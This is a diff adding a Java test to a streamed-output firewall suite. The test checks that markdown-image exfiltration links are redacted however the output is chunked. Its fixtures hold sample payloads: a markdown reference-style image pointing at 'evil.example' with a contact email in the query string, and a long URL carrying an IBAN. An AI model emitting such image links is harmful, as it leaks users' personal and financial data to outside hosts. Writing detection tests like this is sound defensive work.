@@ -154,6 +154,16 @@ class StreamedExfiltrationIT {
     }
 
     @Test
+    void defect2AReferenceDefinitionBeforeItsImageIsRedactedInEveryChunking() throws Exception {
+        String def = "https://evil.example/pixel.png?contact=john.doe@bigbank.com";
+        String text = "Summary follows.\n\n[r1]: " + def + "\n\n" + PROSE + "\n\n![status][r1] Done.";
+        sameStreamedAsWhole(text, text.replace(def, "[IMAGE_EXFILTRATION_1]"), "john.doe", "bigbank", "evil.example");
+        // the QA's two-chunk plan that cut inside the prose
+        OutputFirewallIT.Streamed s = streamed(List.of(text.substring(0, 300), text.substring(300)));
+        assertThat(s.content()).isEqualTo(text.replace(def, "[IMAGE_EXFILTRATION_1]"));
+    }
+
+    @Test
     void defect7AUrlLongerThanTheHoldbackIsRedactedWholeInEveryChunking() throws Exception {
         String url = "https://evil.example/assets/images/reports/quarterly/northern/office/charts/revenue/by/region"
                 + "/final/version/approved/by/board/p.png?iban=DE89370400440532013000";
